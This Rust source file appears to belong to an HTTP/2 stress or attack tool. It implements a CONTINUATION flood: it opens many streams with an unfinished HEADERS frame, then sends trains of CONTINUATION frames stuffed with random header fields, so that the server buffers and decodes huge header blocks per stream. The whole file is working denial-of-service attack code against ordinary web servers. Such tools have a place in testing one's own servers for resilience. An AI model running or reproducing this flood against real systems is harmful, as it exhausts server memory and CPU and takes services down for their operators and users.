//! CONTINUATION flood: a giant header block that never ends.
//!
//! Each stream gets a HEADERS frame carrying only the pseudo-headers with
//! neither END_STREAM nor END_HEADERS set, then a train of CONTINUATION
//! frames stuffed with random dictionary fields. No DATA frame ever follows,
//! so the request never completes; the server has to buffer and decode the
//! whole block per stream before it can even decide to reject it.

use squall_h2_parse::{BitFlags, ContinuationFlags, StreamId};
use tokio::io::{AsyncRead, AsyncWrite};

use crate::conn::{encode_block, request_block, Conn};

use super::Params;

/// Frame-size granularity used to spread `headers_count` fields over
/// CONTINUATION frames: one frame per 16 KiB of estimated block size.
const CONTINUATION_CHUNK: usize = 16384;

pub async fn giant_header_block<IO: AsyncRead + AsyncWrite + Send + 'static>(
    conn: &mut Conn<IO>,
    params: &Params,
) -> eyre::Result<()> {
    let field_size = params.dict.field_size();

    let mut stream_id = 1u32;
    while u64::from(stream_id) < params.streams * 2 {
        let block = request_block("POST", "/", "https", Some(params.authority.as_str()))?;
        conn.write_headers(StreamId(stream_id), BitFlags::empty(), &block)
            .await?;

        let max_frames = (params.headers_count * (field_size * 2) / CONTINUATION_CHUNK).max(1);
        let fields_per_frame = params.headers_count / max_frames;

        for sent_frames in 0..max_frames {
            let end_headers = sent_frames == max_frames - 1;

            let block = {
                // the thread-local rng must not live across an await
                let mut rng = rand::thread_rng();
                let fields: Vec<(&[u8], &[u8])> = (0..fields_per_frame)
                    .map(|_| {
                        (
                            params.dict.pick(&mut rng).as_bytes(),
                            params.dict.pick(&mut rng).as_bytes(),
                        )
                    })
                    .collect();
                encode_block(&fields)?
            };

            conn.write_continuation(
                StreamId(stream_id),
                if end_headers {
                    ContinuationFlags::EndHeaders.into()
                } else {
                    BitFlags::empty()
                },
                &block,
            )
            .await?;
        }

        stream_id += 2;
    }

    Ok(())
}
